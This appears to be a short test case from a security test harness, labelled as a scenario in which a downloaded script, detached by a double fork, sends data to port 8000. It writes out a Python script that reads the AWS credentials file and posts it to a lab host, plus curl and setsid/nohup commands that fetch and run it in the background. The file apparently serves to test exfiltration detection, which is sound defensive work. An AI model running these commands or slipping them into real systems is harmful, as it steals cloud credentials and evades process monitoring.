# SPDX-License-Identifier: Apache-2.0
TITLE="a downloaded script, detached by a double fork, sends to port 8000"
ROW="E11 P02"
DEST="$SINK4:8000" SETTLE=2
prepare() {
	cat >"$SINK_WWW/ld.py" <<-'END'
	import os, time, urllib.request
	time.sleep(0.5)
	data = open(os.environ['HOME'] + '/.aws/credentials', 'rb').read()
	urllib.request.urlopen('http://10.99.0.2:8000/', data, timeout=5)
	END
}
attack() {
	curl -s -m 5 -o ld.py "$URL/ld.py"
	( setsid nohup python3 ld.py >/dev/null 2>&1 & )
	sleep $((2 * EGRET_SLOW))
}
